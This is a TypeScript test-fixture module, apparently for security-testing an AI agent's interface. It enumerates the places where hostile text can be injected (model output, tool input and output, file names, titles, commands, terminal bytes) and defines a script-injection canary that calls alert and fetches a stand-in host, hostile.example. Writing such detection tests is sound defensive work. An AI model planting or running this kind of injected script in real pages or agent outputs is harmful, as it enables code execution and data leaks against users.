/** Where an agent, or what it reads, puts hostile text. */
type Place =
  /** What the model says, as Markdown. */
  | 'say'
  /** A field of a tool's input. */
  | 'toolInput'
  /** What a command printed. */
  | 'toolOutput'
  | 'fileName'
  /** The first prompt, which names the conversation. */
  | 'title'
  /** A command that the person is asked to approve. */
  | 'command'
  /** Bytes of a program in a terminal. */
  | 'terminal'
  /** A whole line of the agent's own format. */
  | 'rawLine';

export type HostileCase = {
  readonly name: string;
  readonly family: string;
  readonly place: Place;
  /** Bytes only where they are no text. */
  readonly text: string | Uint8Array;
};

type Table = Readonly<Record<string, string | Uint8Array>>;

/** Each text of the table at each of the places. */
export function planted(family: string, places: readonly Place[], table: Table): readonly HostileCase[] {
  return places.flatMap((place) =>
    Object.entries(table).map(([name, text]) => ({ name: `${family}: ${name} (${place})`, family, place, text })),
  );
}

/** Whoever asks for an address with this host, or sets this name on the page, was let out. */
export const ELSEWHERE = 'hostile.example';
const RAN = 'window.__hostileRan=1';

/** Says so if it ever runs. */
export const SCRIPT = `${RAN};alert(1);fetch('https://${ELSEWHERE}/ran')`;
